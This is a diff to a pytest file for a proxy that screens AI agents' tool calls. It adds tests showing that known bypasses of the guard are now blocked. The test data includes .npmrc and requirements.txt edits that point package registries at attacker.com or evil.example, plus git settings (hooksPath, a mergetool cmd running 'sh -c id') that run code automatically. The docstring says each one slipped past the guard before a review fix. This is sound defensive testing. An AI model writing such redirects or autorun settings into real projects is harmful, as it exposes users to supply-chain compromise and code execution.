@@ -238,6 +238,26 @@ def test_settings_files_are_read_for_their_sources_in_every_format(proxy: ProxyS
     assert "registry=" not in json.dumps(record["observations"])  # hosts are recorded, never the text
 
 
+REVIEW_WALKAROUNDS = {
+    "edit_only_the_host": (("Edit", {"file_path": ".npmrc", "old_string": "registry.npmjs.org",
+                                     "new_string": "attacker.com"}), "egress_not_allowed"),
+    "requirements_continued_url": (("Write", {"file_path": "requirements.txt",
+                                              "content": "--index-url https\\\n://attacker.com/simple\nflask\n"}),
+                                   "egress_not_allowed"),
+    "gitconfig_file": (("Write", {"file_path": ".gitconfig", "content": "[core]\n\thooksPath = .h\n"}),
+                       "autorun_setting"),
+    "git_mergetool_cmd": (("Bash", {"command": "git config mergetool.x.cmd 'sh -c id'"}), "autorun_setting"),
+}
+
+
+@pytest.mark.parametrize("case", list(REVIEW_WALKAROUNDS))
+def test_review_walkarounds_are_blocked(proxy: ProxyServer, upstream: FakeUpstream, case: str) -> None:
+    """Each passed before the review fix: a host-only edit, a pip line continuation, git's user settings
+    file, a git key that runs a program."""
+    (tool, args), reason = REVIEW_WALKAROUNDS[case]
+    blocked_then_corrected(proxy, upstream, "anthropic", Reply(text="", tool_calls=[(tool, args)]), reason, tool)
+
+
 def test_a_responses_apply_patch_call_writing_a_settings_file(proxy: ProxyServer, upstream: FakeUpstream) -> None:
     item = {"type": "apply_patch_call", "id": "ap_2", "call_id": "call_1",
             "operation": {"type": "create_file", "path": ".npmrc", "diff": "+registry=https://evil.example/\n"}}
